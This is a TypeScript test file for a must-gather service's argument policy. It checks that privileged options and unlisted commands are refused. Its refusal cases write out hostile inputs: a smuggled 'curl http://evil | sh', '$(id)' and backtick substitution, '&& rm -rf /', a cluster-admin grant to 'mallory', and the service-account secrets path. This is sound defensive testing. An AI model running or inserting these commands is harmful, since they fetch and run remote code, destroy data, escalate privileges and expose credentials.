import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'

import { commandPattern } from '../../src/gatherings/argument-policy.js'
import { type InProcessApp, inProcessApp } from '../helpers/in-process.js'

/** OC_CREDENTIALS=service: what a caller may ask oc to do with the service's identity (issue: security review, item 3). */

const post = async (t: InProcessApp, body: unknown): Promise<{ status: number, body: Record<string, unknown> }> => {
  const response = await t.app.inject({ method: 'POST', url: '/must-gather', payload: body as object })
  return { status: response.statusCode, body: response.json() }
}

describe('OC_CREDENTIALS=service without an argument policy', () => {
  let t: InProcessApp
  before(async () => { t = await inProcessApp({ env: { OC_CREDENTIALS: 'service' } }) })
  after(async () => await t.close())

  for (const [field, value] of [
    ['command', 'oc adm policy add-cluster-role-to-user cluster-admin mallory'],
    ['source-dir', '/var/run/secrets/kubernetes.io/serviceaccount'],
    ['keep', true],
    ['host-network', true],
    ['node-name', 'master-0'],
    ['run-namespace', 'kube-system']
  ] as Array<[string, unknown]>) {
    it(`refuses ${field} with 403 naming it, recording nothing`, async () => {
      const versionBefore = await t.store.listVersion()
      const refused = await post(t, { [field]: value })
      assert.equal(refused.status, 403)
      assert.equal(refused.body.field, field)
      assert.match(String(refused.body.error), new RegExp(`^${field} .*OC_CREDENTIALS=service`))
      assert.equal(await t.store.listVersion(), versionBefore)
    })
  }

  it('still runs a plain request', async () => {
    assert.equal((await post(t, { image: 'quay.io/kubev2v/forklift-must-gather' })).status, 201)
  })
})

describe('OC_CREDENTIALS=service with ALLOWED_COMMANDS and switches', () => {
  let t: InProcessApp
  before(async () => {
    t = await inProcessApp({ env: { OC_CREDENTIALS: 'service', ALLOWED_COMMANDS: 'PLAN=* /usr/bin/targeted,/usr/bin/gather', ALLOW_KEEP: 'true' } })
  })
  after(async () => await t.close())

  it('runs the commands the patterns allow, and only those', async () => {
    assert.equal((await post(t, { command: 'PLAN=plan1 /usr/bin/targeted' })).status, 201, 'what the Forklift UI sends')
    assert.equal((await post(t, { command: ['/usr/bin/gather'] })).status, 201)
    for (const command of ['PLAN=x; curl http://evil | sh; /usr/bin/targeted', 'PLAN=$(id) /usr/bin/targeted', 'PLAN= /usr/bin/targeted', '/usr/bin/gather --all', 'PLAN=a /usr/bin/targeted && rm -rf /']) {
      const refused = await post(t, { command })
      assert.equal(refused.status, 403, command)
      assert.equal(refused.body.field, 'command')
    }
  })

  it('allows what a switch allows and nothing more', async () => {
    assert.equal((await post(t, { keep: true })).status, 201)
    assert.equal((await post(t, { 'source-dir': '/tmp' })).status, 403)
  })
})

describe('OC_CREDENTIALS=caller', () => {
  let t: InProcessApp
  before(async () => { t = await inProcessApp() })
  after(async () => await t.close())

  it('refuses none of these: oc can do only what the caller could', async () => {
    assert.equal((await post(t, { command: 'anything at all', keep: true, 'source-dir': '/x', 'host-network': true })).status, 201)
  })
})

describe('commandPattern', () => {
  it('matches the whole command, with * as one word of safe characters', () => {
    const pattern = commandPattern('PLAN=* /usr/bin/targeted')
    assert.ok(pattern.test('PLAN=plan-1.2:x /usr/bin/targeted'))
    for (const command of ['PLAN=a b /usr/bin/targeted', 'PLAN=a;b /usr/bin/targeted', 'PLAN=`id` /usr/bin/targeted', 'xPLAN=a /usr/bin/targeted', 'PLAN=a /usr/bin/targeted ']) {
      assert.ok(!pattern.test(command), command)
    }
    assert.ok(commandPattern('/usr/bin/gather.sh').test('/usr/bin/gather.sh'))
    assert.ok(!commandPattern('/usr/bin/gather.sh').test('/usr/bin/gatherxsh'), 'a dot is a dot')
  })
})
